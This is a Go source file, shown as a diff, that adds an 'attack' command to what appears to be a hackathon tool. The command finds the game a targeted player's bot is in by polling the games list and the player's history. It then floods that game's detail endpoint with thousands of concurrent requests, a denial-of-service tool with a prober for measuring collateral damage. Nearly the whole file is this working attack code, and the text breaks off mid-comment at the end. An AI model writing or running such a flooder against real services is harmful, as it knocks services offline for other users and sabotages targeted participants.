@@ -0,0 +1,837 @@
+// Package attack implements the "attack" command: it discovers the game a
+// target player is seated at and floods that game's detail endpoint.
+package attack
+
+import (
+	"context"
+	"flag"
+	"fmt"
+	"io"
+	"net/http"
+	"os"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	"elastic-ai-jam-2025/internal/blockdetect"
+	"elastic-ai-jam-2025/internal/cli"
+	"elastic-ai-jam-2025/internal/errclass"
+	"elastic-ai-jam-2025/internal/httpapi"
+	"elastic-ai-jam-2025/internal/metrics"
+	"elastic-ai-jam-2025/internal/netaddr"
+	"elastic-ai-jam-2025/internal/panics"
+	"elastic-ai-jam-2025/internal/preflight"
+	"elastic-ai-jam-2025/internal/report"
+)
+
+// Config is the configuration of an attack run.
+type Config struct {
+	cli.Common
+
+	// TargetPlayerID is the player whose game is attacked.
+	TargetPlayerID string
+
+	// GameID is the game to attack. Setting it skips discovery, and it is
+	// mutually exclusive with TargetPlayerID.
+	GameID string
+
+	// Number of concurrent goroutines to attack the gameID endpoint
+	// WARNING: 5000 is a very high number and can be extremely disruptive.
+	// Test with much smaller numbers first (e.g., 50-100).
+	NumAttackers int
+
+	// Duration of the attack
+	Duration time.Duration
+	// MaxRequests, when positive, ends the attack once that many requests
+	// were sent, even before Duration.
+	MaxRequests int64
+
+	// Retry mechanism for finding the player's game. The delay between
+	// attempts backs off from FindPlayerRetryDelay up to FindPlayerMaxDelay
+	// while the player is not seen, and drops to FindPlayerFastDelay once it
+	// was seen at a table within FindPlayerRecent.
+	FindPlayerRetryDelay  time.Duration // Delay after the first attempt that does not see the player
+	FindPlayerMaxDelay    time.Duration // Cap of the backoff
+	FindPlayerFastDelay   time.Duration // Delay after an attempt that saw the player recently
+	FindPlayerRecent      time.Duration // How old a sighting may be to poll fast
+	MaxFindPlayerAttempts int           // Max attempts to find player
+	DiscoveryTimeout      time.Duration // HTTP timeout of discovery requests
+	// DiscoveryMaxAge is how old a games list shared by another caller of
+	// the process may be for discovery to use it; see -games-cache-ttl.
+	DiscoveryMaxAge time.Duration
+	// HistoryMaxAge is how old the player's most recent game may be for the
+	// player-games fallback to attack it.
+	HistoryMaxAge time.Duration
+
+	// ProbeInterval, when positive, enables a prober that requests ProbeURL
+	// every ProbeInterval during the attack, after ProbeBaseline probes
+	// before it, to measure the attack's effect on the rest of the API.
+	// An empty ProbeURL probes the leaderboard.
+	ProbeInterval time.Duration
+	ProbeURL      string
+	ProbeBaseline int
+
+	// DryRun checks configuration and connectivity, then exits without attacking.
+	DryRun bool
+}
+
+// DefaultConfig returns the defaults the standalone overload-game binary used.
+func DefaultConfig() Config {
+	common := cli.DefaultCommon()
+	common.RequestTimeout = 10 * time.Second
+	// A game detail endpoint failing every request is what a successful
+	// attack looks like, so suspecting outages is opt-in here.
+	common.OutageWindow = 0
+	return Config{
+		Common:                common,
+		TargetPlayerID:        "example-bot-go",
+		NumAttackers:          5000,
+		Duration:              30 * time.Second,
+		FindPlayerRetryDelay:  1 * time.Second,
+		FindPlayerMaxDelay:    15 * time.Second,
+		FindPlayerFastDelay:   250 * time.Millisecond,
+		FindPlayerRecent:      5 * time.Minute,
+		MaxFindPlayerAttempts: 100,
+		DiscoveryTimeout:      10 * time.Second,
+		DiscoveryMaxAge:       250 * time.Millisecond,
+		HistoryMaxAge:         2 * time.Minute,
+		ProbeBaseline:         5,
+	}
+}
+
+// RegisterFlags adds the attack flags to fs.
+func (cfg *Config) RegisterFlags(fs *flag.FlagSet) {
+	cfg.Common.Register(fs)
+	cfg.Common.RegisterMetricsFlag(fs)
+	cfg.Common.RegisterFailFastFlag(fs)
+	cfg.Common.RegisterSeatbeltFlags(fs)
+	cfg.Common.RegisterClockSkewFlag(fs)
+	cfg.Common.RegisterOutageFlags(fs)
+	cfg.Common.RegisterSlowestFlags(fs)
+	cfg.Common.RegisterGamesCacheFlag(fs)
+	fs.StringVar(&cfg.TargetPlayerID, "player-id", cfg.TargetPlayerID, "player whose game is targeted")
+	fs.StringVar(&cfg.GameID, "game-id", cfg.GameID, "game to attack, skipping discovery (excludes -player-id)")
+	fs.IntVar(&cfg.NumAttackers, "attackers", cfg.NumAttackers, "number of concurrent attackers")
+	fs.DurationVar(&cfg.Duration, "duration", cfg.Duration, "duration of the attack")
+	fs.Int64Var(&cfg.MaxRequests, "max-requests", cfg.MaxRequests, "stop the attack after sending this many requests, even before -duration (0 means no limit)")
+	fs.DurationVar(&cfg.FindPlayerRetryDelay, "find-retry-delay", cfg.FindPlayerRetryDelay, "initial delay between attempts to find the player's game, doubled while the player is not seen")
+	fs.DurationVar(&cfg.FindPlayerMaxDelay, "find-max-delay", cfg.FindPlayerMaxDelay, "max delay between attempts to find the player's game")
+	fs.DurationVar(&cfg.FindPlayerFastDelay, "find-fast-delay", cfg.FindPlayerFastDelay, "delay between attempts while the player was seen recently")
+	fs.DurationVar(&cfg.FindPlayerRecent, "find-recent", cfg.FindPlayerRecent, "how old the player's latest game may be to count as a recent sighting")
+	fs.IntVar(&cfg.MaxFindPlayerAttempts, "find-attempts", cfg.MaxFindPlayerAttempts, "max attempts to find the player's game")
+	fs.DurationVar(&cfg.HistoryMaxAge, "history-max-age", cfg.HistoryMaxAge, "attack the player's most recent game from its history when it is at most this old and the games list does not show the player (0 disables)")
+	fs.DurationVar(&cfg.DiscoveryTimeout, "discovery-timeout", cfg.DiscoveryTimeout, "HTTP timeout of discovery requests (the attack uses -request-timeout)")
+	fs.DurationVar(&cfg.DiscoveryMaxAge, "discovery-max-age", cfg.DiscoveryMaxAge, "how old a games list shared within -games-cache-ttl may be for discovery to use it instead of sending a request")
+	fs.DurationVar(&cfg.ProbeInterval, "probe-interval", cfg.ProbeInterval, "probe a control endpoint this often during the attack to measure collateral impact (0 disables)")
+	fs.StringVar(&cfg.ProbeURL, "probe-url", cfg.ProbeURL, "control endpoint of the prober (default: the leaderboard)")
+	fs.IntVar(&cfg.ProbeBaseline, "probe-baseline", cfg.ProbeBaseline, "number of probes taken before the attack starts")
+	fs.BoolVar(&cfg.DryRun, "dry-run", cfg.DryRun, "check configuration and connectivity, print the plan and exit")
+}
+
+// --- Global Counters (registered in registry, safe for concurrent use) ---
+var (
+	registry = metrics.New()
+
+	// gameDetail is the flooded endpoint and reports into registry under the
+	// historical names; gamesList and playerGames are only used by discovery.
+	gameDetail  = newEndpointStats(registry, metricNames{"requests_sent", "successful_hits", "failed_hits", "bytes_received", "attack"})
+	gamesList   = newEndpointStats(metrics.New(), endpointMetricNames)
+	playerGames = newEndpointStats(metrics.New(), endpointMetricNames)
+	// gameDetailBy, gamesListBy and playerGamesBy break them down per
+	// -base-url replica; nil with a single one.
+	gameDetailBy, gamesListBy, playerGamesBy byBaseURL
+
+	discoveryAttempts = registry.Counter("discovery_attempts", "Games list polls made to find the target.")
+	discoveryRequests = registry.Counter("discovery_requests", "Requests sent by discovery before locking on a game.")
+	discoveryFast     = registry.Counter("discovery_fast_polls", "Discovery attempts made at the fast delay.")
+	discoveryTime     time.Duration
+	// attackTime is how long the attack itself ran, which its rates are
+	// measured over.
+	attackTime       time.Duration
+	discoveryLatency = registry.Histogram("discovery", "Duration of discovery requests.")
+	targetGameID     string
+	targetSource     string
+	// discoveredVia is the base URL the target was found on.
+	discoveredVia string
+	// control is the collateral prober, nil when disabled.
+	control *prober
+	// budget is what is left of -max-requests, nil without a limit.
+	budget *requestBudget
+	// endedBy is why the attack stopped, one of the endedBy constants.
+	endedBy string
+
+	// workerPanics recovers the panics of attackers, unless -fail-fast.
+	workerPanics panics.Recorder
+
+	// guard pauses the attackers during a suspected outage; nil unless
+	// -outage-window is set.
+	guard *blockdetect.Guard
+)
+
+// How the attacked game was obtained.
+const (
+	targetSourceManual    = "manual"
+	targetSourceGamesList = "games_list"
+	targetSourceHistory   = "player_history"
+)
+
+// Why the attack stopped.
+const (
+	endedByDuration  = "duration"
+	endedByBudget    = "budget"
+	endedByInterrupt = "interrupt"
+	// endedByAttackers is every attacker stopping on its own, which only
+	// happens when all of them panicked.
+	endedByAttackers = "attackers_stopped"
+)
+
+// historyLimit is how many of the player's games the fallback fetches.
+const historyLimit = 10
+
+func newFlagSet(cfg *Config) *flag.FlagSet {
+	fs := flag.NewFlagSet("attack", flag.ContinueOnError)
+	cfg.RegisterFlags(fs)
+	return fs
+}
+
+// Flags returns the attack flag set with default values.
+func Flags() *flag.FlagSet {
+	cfg := DefaultConfig()
+	return newFlagSet(&cfg)
+}
+
+// Run is the entry point of the attack command.
+func Run(args []string) int {
+	cfg := DefaultConfig()
+	fs := newFlagSet(&cfg)
+	if code, stop := cli.Parse(fs, args); stop {
+		return code
+	}
+	closeLog, err := cfg.SetupLogging()
+	if err != nil {
+		fmt.Fprintf(os.Stderr, "Error: %v\n", err)
+		return 2
+	}
+	defer closeLog()
+	if err := resolveTarget(fs, &cfg); err != nil {
+		fmt.Fprintf(os.Stderr, "Error: %v\n", err)
+		return 2
+	}
+	cfg.SetupSlowest()
+	cfg.SetupGamesCache()
+
+	if cfg.ProbeInterval > 0 && cfg.ProbeURL == "" {
+		cfg.ProbeURL = httpapi.New(cfg.BaseURL.First(), cfg.RequestTimeout).APIURL("/leaderboard") + "?limit=1"
+	} else if cfg.ProbeURL != "" {
+		if cfg.ProbeURL, err = netaddr.BaseURL(cfg.ProbeURL, ""); err != nil {
+			fmt.Fprintf(os.Stderr, "Error: -probe-url: %v\n", err)
+			return 2
+		}
+	}
+	if cfg.DryRun {
+		return dryRun(&cfg)
+	}
+	volume := fmt.Sprintf("%d attackers for %s, %s", cfg.NumAttackers, cfg.Duration, cfg.limits())
+	if err := cfg.ConfirmDestructive("attack", cfg.BaseURL, volume); err != nil {
+		fmt.Fprintf(os.Stderr, "Error: %v\n", err)
+		return 2
+	}
+	stopMetrics, err := registry.Serve(cfg.MetricsAddr, "aijam_attack")
+	if err != nil {
+		fmt.Fprintf(os.Stderr, "Error: %v\n", err)
+		return 2
+	}
+	defer stopMetrics()
+
+	ctx, stop := cli.InterruptContext()
+	defer stop()
+	rep := report.New("attack", cli.Effective(fs))
+	code, status, reason := runAttack(ctx, &cfg)
+	fillReport(rep, &cfg)
+	rep.Config = cli.Effective(fs) // picks up the resolved seed
+	rep.Finish(status, reason)
+	cfg.WriteReport(rep)
+	return code
+}
+
+// resolveTarget checks that exactly one targeting method is configured. The
+// -player-id default only applies when -game-id is not given, so setting
+// -game-id alone is enough.
+func resolveTarget(fs *flag.FlagSet, cfg *Config) error {
+	playerIDSet := false
+	fs.Visit(func(f *flag.Flag) {
+		if f.Name == "player-id" {
+			playerIDSet = true
+		}
+	})
+	if cfg.GameID != "" {
+		if playerIDSet && cfg.TargetPlayerID != "" {
+			return fmt.Errorf("-player-id and -game-id are mutually exclusive")
+		}
+		cfg.TargetPlayerID = ""
+		return nil
+	}
+	if cfg.TargetPlayerID == "" {
+		return fmt.Errorf("one of -player-id or -game-id is required")
+	}
+	return nil
+}
+
+// limits describes the bounds of the attack besides its duration.
+func (cfg *Config) limits() string {
+	if cfg.MaxRequests > 0 {
+		return fmt.Sprintf("rate: unlimited, at most %d requests", cfg.MaxRequests)
+	}
+	return "rate: unlimited"
+}
+
+// dryRun prints what a real run would do and checks that the games list used
+// for discovery answers with the expected shape.
+func dryRun(cfg *Config) int {
+	api := httpapi.New(cfg.BaseURL.First(), cfg.DiscoveryTimeout)
+	fmt.Println("--- Dry run: attack ---")
+	var steps []preflight.Step
+	for _, e := range cfg.BaseURL.Endpoints() {
+		steps = append(steps, preflight.ResolveURLHost(e.Addr, cfg.RequestTimeout))
+	}
+	if n := cfg.BaseURL.Len(); n > 1 {
+		fmt.Printf("Spreading the attackers over %d base URLs (%s); the URLs below are the first one's\n", n, cfg.BaseURL)
+	}
+	if cfg.GameID != "" {
+		fmt.Printf("Would flood %s with %d attackers for %s, %s\n", api.GameURL(cfg.GameID), cfg.NumAttackers, cfg.Duration, cfg.limits())
+	} else {
+		fmt.Printf("Would discover the game of player %s via %s (up to %d attempts, %s to %s apart, %s once seen, %s timeout)\n", cfg.TargetPlayerID, api.APIURL("/games"), cfg.MaxFindPlayerAttempts, cfg.FindPlayerRetryDelay, cfg.FindPlayerMaxDelay, cfg.FindPlayerFastDelay, cfg.DiscoveryTimeout)
+		if cfg.GamesCacheTTL > 0 {
+			fmt.Printf("Sharing the games list within the process for %s, discovery using lists at most %s old\n", cfg.GamesCacheTTL, cfg.DiscoveryMaxAge)
+		}
+		if cfg.HistoryMaxAge > 0 {
+			fmt.Printf("Falling back to the player's most recent game from %s when it is at most %s old\n", api.APIURL("/players/"+cfg.TargetPlayerID+"/games"), cfg.HistoryMaxAge)
+		}
+		fmt.Printf("Then flood %s with %d attackers for %s, %s\n", api.GameURL("{gameID}"), cfg.NumAttackers, cfg.Duration, cfg.limits())
+		for _, e := range cfg.BaseURL.Endpoints() {
+			steps = append(steps, preflight.GamesList(httpapi.New(e.Addr, cfg.DiscoveryTimeout)))
+		}
+	}
+	if cfg.ProbeInterval > 0 {
+		fmt.Printf("Probing %s %d times before the attack, then every %s during it\n", cfg.ProbeURL, cfg.ProbeBaseline, cfg.ProbeInterval)
+	}
+	fmt.Println("Checks:")
+	ok := preflight.Run(os.Stdout, steps)
+	cfg.CheckClockSkew()
+	if !ok {
+		fmt.Println("Dry run FAILED.")
+		return 1
+	}
+	fmt.Println("Dry run passed.")
+	return 0
+}
+
+// --- Function to find a gameID where the target player is playing ---
+// Returns the gameID if found, an empty string if the player is not in the
+// list, or an error if the list could not be fetched. The list is streamed,
+// and read no further than the player's game; with httpapi.SharedGames set,
+// a list another caller fetched at most maxAge ago is used, and only
+// requests this call made are counted. addr is the base URL of api.
+func findTargetPlayerGameIDInCurrentList(api *httpapi.Client, addr, playerIDToFind string, maxAge time.Duration) (string, error) {
+	start := time.Now()
+	var gameID string
+	find := func(game httpapi.ListedGame) bool {
+		for _, player := range game.GameState.Players {
+			if player.PlayerID == playerIDToFind {
+				gameID = game.GameID
+				return true
+			}
+		}
+		return false
+	}
+	listed, requested, err := api.EachSharedGame(maxAge, find)
+	if requested {
+		gamesList.observeAPI(start, err)
+		gamesListBy[addr].observeAPI(start, err)
+		discoveryRequests.Inc()
+		discoveryLatency.Since(start)
+	}
+	if err != nil {
+		return "", fmt.Errorf("failed to fetch list of games: %w", err)
+	}
+
+	if listed == 0 {
+		return "", fmt.Errorf("no games found in the list from /api/v0/games (empty list received)")
+	}
+	if gameID != "" {
+		fmt.Printf("Found player %s in gameID: %s\n", playerIDToFind, gameID)
+	}
+	// An empty gameID: player not found in this specific list
+	return gameID, nil
+}
+
+// findTargetPlayerGameIDInHistory returns the player's most recent game from
+// /api/v0/players/{playerID}/games when it started at most maxAge before now,
+// and an empty string otherwise. seen is when that game started, zero if the
+// history has none. Games with unparsable timestamps are ignored. addr is the
+// base URL of api.
+func findTargetPlayerGameIDInHistory(api *httpapi.Client, addr, playerID string, maxAge time.Duration, now time.Time) (gameID string, seen time.Time, err error) {
+	start := time.Now()
+	history, err := api.PlayerGames(playerID, historyLimit)
+	playerGames.observeAPI(start, err)
+	playerGamesBy[addr].observeAPI(start, err)
+	discoveryRequests.Inc()
+	discoveryLatency.Since(start)
+	if err != nil {
+		return "", time.Time{}, fmt.Errorf("failed to fetch games of player %s: %w", playerID, err)
+	}
+	gameID, at, ok := mostRecentGame(history.Games)
+	if !ok {
+		return "", time.Time{}, nil
+	}
+	if !fresh(at, now, maxAge) {
+		fmt.Printf("  Most recent game %s of player %s is %s old (max %s), not using it.\n", gameID, playerID, now.Sub(at).Round(time.Second), maxAge)
+		return "", at, nil
+	}
+	fmt.Printf("Found recent game of player %s in its history: %s (started %s)\n", playerID, gameID, at.Format(time.RFC3339))
+	return gameID, at, nil
+}
+
+// mostRecentGame picks the game with the latest timestamp, without relying
+// on the order the API lists them in.
+func mostRecentGame(games []httpapi.PlayerGame) (gameID string, at time.Time, ok bool) {
+	for _, g := range games {
+		t, err := parseTimestamp(g.Game.Timestamp)
+		if err != nil || g.Game.GameID == "" {
+			continue
+		}
+		if !ok || t.After(at) {
+			gameID, at, ok = g.Game.GameID, t, true
+		}
+	}
+	return gameID, at, ok
+}
+
+// fresh reports whether a game started at most maxAge before now. Timestamps
+// slightly in the future, from clock skew, count as fresh.
+func fresh(at, now time.Time, maxAge time.Duration) bool {
+	return now.Sub(at) <= maxAge
+}
+
+// timestampLayouts are the layouts the API timestamps have been seen in.
+// Layouts without a zone are read as UTC.
+var timestampLayouts = []string{
+	time.RFC3339Nano,
+	"2006-01-02T15:04:05.999999999",
+	"2006-01-02 15:04:05.999999999Z07:00",
+	"2006-01-02 15:04:05.999999999",
+}
+
+// parseTimestamp parses an API timestamp, either in one of timestampLayouts
+// or as Unix seconds or milliseconds.
+func parseTimestamp(s string) (time.Time, error) {
+	s = strings.TrimSpace(s)
+	for _, layout := range timestampLayouts {
+		if t, err := time.Parse(layout, s); err == nil {
+			return t, nil
+		}
+	}
+	if n, err := strconv.ParseInt(s, 10, 64); err == nil {
+		// Seconds stay below 1e11 until the year 5138.
+		if n >= 1e11 {
+			return time.UnixMilli(n).UTC(), nil
+		}
+		return time.Unix(n, 0).UTC(), nil
+	}
+	return time.Time{}, fmt.Errorf("unrecognized timestamp %q", s)
+}
+
+// --- Attacker goroutine ---
+// own is the stats of the worker's base URL, nil with a single one.
+func attackWorker(ctx context.Context, client *http.Client, attackURL string, own *endpointStats, stopSignal <-chan struct{}, wg *sync.WaitGroup) {
+	defer wg.Done()
+	defer workerPanics.Recover("an attacker", nil)
+
+	req, err := httpapi.NewRequest(attackURL)
+	if err != nil {
+		panic(err) // the URL was built from a valid base URL
+	}
+	allowed := allowance{budget: budget}
+	for {
+		select {
+		case <-stopSignal: // Check if the attack duration is over
+			return
+		default:
+			if guard.Wait(ctx) != nil {
+				return // the attack ended during an outage
+			}
+			if !allowed.next() {
+				return // the request budget is spent
+			}
+			start := time.Now()
+			resp, err := client.Do(req)
+			if err != nil {
+				gameDetail.observe(start, 0, 0, err)
+				own.observe(start, 0, 0, err)
+				time.Sleep(50 * time.Millisecond)
+				continue
+			}
+
+			// A proxy's error page answered with a 200 is no hit.
+			n, err := httpapi.Drain(attackURL, resp)
+			gameDetail.observe(start, resp.StatusCode, n, err)
+			own.observe(start, resp.StatusCode, n, err)
+		}
+	}
+}
+
+// runAttack discovers the target game and attacks it. It returns the exit
+// code and, when the run did not complete normally, a report status and
+// reason.
+func runAttack(ctx context.Context, cfg *Config) (code int, status, reason string) {
+	fmt.Println("--- GameID DoS Attacker (Game List Method with Retry) ---")
+	fmt.Printf("WARNING: This script will attempt to flood requests to /games/{gameID}.\n")
+	fmt.Printf("Target Base URL: %s\n", cfg.BaseURL)
+	if cfg.GameID != "" {
+		fmt.Printf("Target GameID (manual, discovery skipped): %s\n", cfg.GameID)
+	} else {
+		fmt.Printf("Target PlayerID for GameID discovery: %s\n", cfg.TargetPlayerID)
+	}
+	fmt.Printf("Number of concurrent attackers: %d\n", cfg.NumAttackers)
+	fmt.Printf("Attack Duration: %s\n", cfg.Duration)
+	if cfg.MaxRequests > 0 {
+		fmt.Printf("Request budget: %d\n", cfg.MaxRequests)
+	}
+	if cfg.GameID == "" {
+		fmt.Printf("Retry finding player for up to %d attempts, backing off from %s to %s (%s once seen), with %s timeout.\n", cfg.MaxFindPlayerAttempts, cfg.FindPlayerRetryDelay, cfg.FindPlayerMaxDelay, cfg.FindPlayerFastDelay, cfg.DiscoveryTimeout)
+	}
+	cfg.ResolveSeed()
+	workerPanics.FailFast = cfg.FailFast
+	gameDetailBy = newByBaseURL(cfg.BaseURL)
+	gamesListBy = newByBaseURL(cfg.BaseURL)
+	playerGamesBy = newByBaseURL(cfg.BaseURL)
+	fmt.Println("This can be extremely disruptive. Use responsibly and within hackathon rules.")
+	fmt.Println("-----------------------------------------")
+
+	gameIDToAttack := cfg.GameID
+	targetSource = targetSourceManual
+	if gameIDToAttack == "" {
+		gameIDToAttack, targetSource, code, status, reason = discoverTarget(ctx, cfg)
+		if gameIDToAttack == "" {
+			return code, status, reason
+		}
+	}
+	targetGameID = gameIDToAttack
+
+	if cfg.ProbeInterval > 0 {
+		control = newProber(cfg.ProbeURL, cfg.RequestTimeout)
+		fmt.Printf("Measuring control endpoint %s before the attack...\n", cfg.ProbeURL)
+		control.baseline(ctx, cfg.ProbeBaseline)
+	}
+
+	fmt.Printf("Starting DoS attack on gameID %s for %s with %d attackers...\n", gameIDToAttack, cfg.Duration, cfg.NumAttackers)
+
+	var wg sync.WaitGroup
+	stopSignal := make(chan struct{})
+	attackStart := time.Now()
+	client := &http.Client{Timeout: cfg.RequestTimeout, Transport: httpapi.Transport(nil)}
+	attackURLs := make(map[string]string, cfg.BaseURL.Len())
+	for _, e := range cfg.BaseURL.Endpoints() {
+		attackURLs[e.Addr] = httpapi.New(e.Addr, cfg.RequestTimeout).GameURL(gameIDToAttack)
+	}
+
+	budget = newRequestBudget(cfg.MaxRequests)
+	attackCtx, endAttack := context.WithCancel(ctx)
+	defer endAttack()
+	guard = cfg.OutageGuard(attackTotals, canary(client, attackURLs[cfg.BaseURL.First()]))
+	stopGuard := guard.Start(attackCtx)
+	for i := 0; i < cfg.NumAttackers; i++ {
+		addr := cfg.BaseURL.For(i)
+		wg.Add(1)
+		go attackWorker(attackCtx, client, attackURLs[addr], gameDetailBy[addr], stopSignal, &wg)
+	}
+	attackersDone := make(chan struct{})
+	go func() {
+		wg.Wait()
+		close(attackersDone)
+	}()
+	probeDone := make(chan struct{})
+	if control != nil {
+		go func() {
+			defer close(probeDone)
+			control.run(cfg.ProbeInterval, stopSignal)
+		}()
+	} else {
+		close(probeDone)
+	}
+
+	select {
+	case <-time.After(cfg.Duration):
+		fmt.Println("\nAttack duration ended. Waiting for workers to finish...")
+		endedBy, reason = endedByDuration, "attack duration elapsed"
+	case <-ctx.Done():
+		fmt.Println("\nInterrupted. Waiting for workers to finish...")
+		endedBy, status, reason = endedByInterrupt, report.StatusInterrupted, "interrupted during the attack"
+	case <-attackersDone:
+		if budget.spent() {
+			fmt.Printf("\nRequest budget of %d spent.\n", cfg.MaxRequests)
+			endedBy, reason = endedByBudget, fmt.Sprintf("request budget of %d spent", cfg.MaxRequests)
+		} else {
+			fmt.Println("\nEvery attacker stopped.")
+			endedBy, reason = endedByAttackers, "every attacker stopped"
+		}
+	}
+	close(stopSignal)
+	endAttack()
+	stopGuard()
+	<-attackersDone
+	attackTime = time.Since(attackStart)
+	<-probeDone
+
+	fmt.Println("-----------------------------------------")
+	fmt.Println("Attack finished.")
+	fmt.Printf("Total requests sent: %d\n", gameDetail.requests.Load())
+	fmt.Printf("Successful hits (200 OK): %d\n", gameDetail.successful.Load())
+	fmt.Printf("Failed hits (errors, non-200 or not JSON): %d\n", gameDetail.failed.Load())
+	if n := gameDetail.notJSON(); n > 0 {
+		fmt.Printf("Answers that were not JSON (a proxy or error page answered): %d\n", n)
+	}
+	errclass.PrintCounts(os.Stdout, gameDetail.failures.Snapshot())
+	fmt.Printf("Responses by status: %v\n", gameDetail.statusCounts())
+	fmt.Printf("Bytes received: %d\n", gameDetail.bytes.Load())
+	fmt.Printf("Request latency: %s\n", gameDetail.latency.Summary())
+	printByBaseURL(cfg)
+	httpapi.Slowest.Print(os.Stdout)
+	report.DeriveRates(registry.Snapshot().Counters, nil, cfg.RateSpan(attackTime, guard)).Print(os.Stdout, "requests_sent", "successful_hits")
+	if control != nil {
+		control.print()
+	}
+	guard.PrintSummary(os.Stdout)
+	workerPanics.Print(os.Stdout)
+	fmt.Println("-----------------------------------------")
+	return 0, status, reason
+}
+
+// attackTotals are the counters the outage detection judges.
+func attackTotals() blockdetect.Totals {
+	return blockdetect.Totals{Succeeded: gameDetail.successful.Load(), Failed: gameDetail.failures.Snapshot()}
+}
+
+// canary returns the probe of a suspected outage: a single request to url,
+// which succeeds on any answer but a server error.
+func canary(client *http.Client, url string) func() error {
+	return func() error {
+		resp, err := client.Get(url)
+		if err != nil {
+			return err
+		}
+		io.Copy(io.Discard, resp.Body)
+		resp.Body.Close()
+		if resp.StatusCode >= http.StatusInternalServerError {
+			return fmt.Errorf("status %d", resp.StatusCode)
+		}
+		return nil
+	}
+}
+
+// discoverTarget polls the games list with its own client until the target
+// player shows up, falling back to the player's recent history on every
+// attempt the list misses. The delay between attempts follows a
+// discoverySchedule over the sightings of the player so far. It returns the game ID and how it was found, or an
+// empty ID with the exit code, report status and reason of the failed
+// discovery.
+func discoverTarget(ctx context.Context, cfg *Config) (gameID, source string, code int, status, reason string) {
+	// Every replica is asked in turn, starting with the one that saw the
+	// player last, as replicas that do not share their state may disagree.
+	var order []string
+	apis := make(map[string]*httpapi.Client, cfg.BaseURL.Len())
+	for _, e := range cfg.BaseURL.Endpoints() {
+		order = append(order, e.Addr)
+		apis[e.Addr] = httpapi.New(e.Addr, cfg.DiscoveryTimeout)
+	}
+	on := func(addr string) string {
+		if len(order) == 1 {
+			return ""
+		}
+		return " on " + addr
+	}
+	foundPlayer := false
+	var err error
+	schedule := discoverySchedule{
+		Fast:   cfg.FindPlayerFastDelay,
+		Base:   cfg.FindPlayerRetryDelay,
+		Max:    cfg.FindPlayerMaxDelay,
+		Recent: cfg.FindPlayerRecent,
+	}
+	var history []discoveryObservation
+	started := time.Now()
+	defer func() {
+		discoveryTime = time.Since(started)
+		fmt.Printf("Discovery sent %d requests in %s.\n", discoveryRequests.Load(), discoveryTime.Round(time.Millisecond))
+		if n := discoveryNotJSON(); n > 0 {
+			fmt.Printf("Discovery got %d non-JSON answers: a proxy is likely answering for a backend that is down.\n", n)
+		}
+	}()
+
+	fmt.Printf("Attempting to find player %s in an active game...\n", cfg.TargetPlayerID)
+discovery:
+	for attempt := 1; attempt <= cfg.MaxFindPlayerAttempts; attempt++ {
+		fmt.Printf("Attempt %d/%d to find player %s...\n", attempt, cfg.MaxFindPlayerAttempts, cfg.TargetPlayerID)
+		discoveryAttempts.Inc()
+		var seen time.Time
+		listed := false
+		for _, addr := range order {
+			gameID, err = findTargetPlayerGameIDInCurrentList(apis[addr], addr, cfg.TargetPlayerID, cfg.DiscoveryMaxAge)
+			if err != nil {
+				fmt.Fprintf(os.Stderr, "  Error during attempt %d to find player's game%s: %v\n", attempt, on(addr), err)
+			} else if gameID != "" {
+				foundPlayer = true
+				source, discoveredVia = targetSourceGamesList, addr
+				break discovery
+			} else {
+				listed = true
+			}
+		}
+		// The history's freshness is judged on the server's clock, as
+		// estimated from the answers so far.
+		cfg.CheckClockSkew()
+		if listed {
+			fmt.Printf("  Player %s not found in current game list (attempt %d/%d).\n", cfg.TargetPlayerID, attempt, cfg.MaxFindPlayerAttempts)
+		}
+
+		if cfg.HistoryMaxAge > 0 {
+			lastSeenOn := ""
+			for _, addr := range order {
+				var at time.Time
+				gameID, at, err = findTargetPlayerGameIDInHistory(apis[addr], addr, cfg.TargetPlayerID, cfg.HistoryMaxAge, httpapi.ServerClock.Now())
+				if err != nil {
+					fmt.Fprintf(os.Stderr, "  Error during attempt %d to read player's history%s: %v\n", attempt, on(addr), err)
+				} else if gameID != "" {
+					foundPlayer = true
+					source, discoveredVia = targetSourceHistory, addr
+					break discovery
+				}
+				if at.After(seen) {
+					seen, lastSeenOn = at, addr
+				}
+			}
+			if lastSeenOn != "" {
+				order = moveToFront(order, lastSeenOn)
+			}
+		}
+
+		if attempt < cfg.MaxFindPlayerAttempts {
+			history = append(history, discoveryObservation{At: httpapi.ServerClock.Now(), LastSeen: seen})
+			delay := schedule.next(history)
+			if schedule.seen(history[len(history)-1]) {
+				discoveryFast.Inc()
+				fmt.Printf("  Player %s was at a table %s ago, will retry in %s...\n", cfg.TargetPlayerID, httpapi.ServerClock.Now().Sub(seen).Round(time.Second), delay)
+			} else {
+				fmt.Printf("  Will retry in %s...\n", delay)
+			}
+			select {
+			case <-time.After(delay):
+			case <-ctx.Done():
+				break discovery
+			}
+		}
+	}
+
+	if ctx.Err() != nil {
+		fmt.Fprintln(os.Stderr, "Interrupted during discovery. Exiting.")
+		return "", "", 1, report.StatusInterrupted, "interrupted during discovery"
+	}
+	if !foundPlayer {
+		fmt.Fprintf(os.Stderr, "Error: Could not find player %s in any game after %d attempts. Exiting.\n", cfg.TargetPlayerID, cfg.MaxFindPlayerAttempts)
+		return "", "", 1, report.StatusFailed, fmt.Sprintf("player %s not found after %d attempts", cfg.TargetPlayerID, cfg.MaxFindPlayerAttempts)
+	}
+	fmt.Printf("Target gameID %s found via %s%s.\n", gameID, source, on(discoveredVia))
+	return gameID, source, 0, "", ""
+}
+
+// moveToFront returns order with addr first and the others in their order.
+func moveToFront(order []string, addr string) []string {
+	out := []string{addr}
+	for _, a := range order {
+		if a != addr {
+			out = append(out, a)
+		}
+	}
+	return out
+}
+
+// printByBaseURL prints the attack's requests per base URL, when there are
+// several.
+func printByBaseURL(cfg *Config) {
+	if gameDetailBy == nil {
+		return
+	}
+	fmt.Println("Per base URL:")
+	for _, e := range cfg.BaseURL.Endpoints() {
+		s := gameDetailBy[e.Addr]
+		fmt.Printf("  %s: requests %d, successful %d, failed %d, bytes %d, latency %s, statuses %v\n", e.Addr,
+			s.requests.Load(), s.successful.Load(), s.failed.Load(), s.bytes.Load(), s.latency.Summary(), s.statusCounts())
+		errclass.PrintCounts(os.Stdout, s.failures.Snapshot())
+	}
+}
+
+// discoveryNotJSON returns the number of discovery answers that were not
+// JSON, counted apart from other failures since they point at the backend
+// being down rather than at the target.
+func discoveryNotJSON() int64 {
+	return gamesList.notJSON() + playerGames.notJSON()
+}
+
+// fillReport records the run: top-level counters and errors cover the flood,
+// latencies are keyed by phase, and each endpoint gets a sub-report with its
+// per-status counts. The attack has no baseline or recovery phase, so only
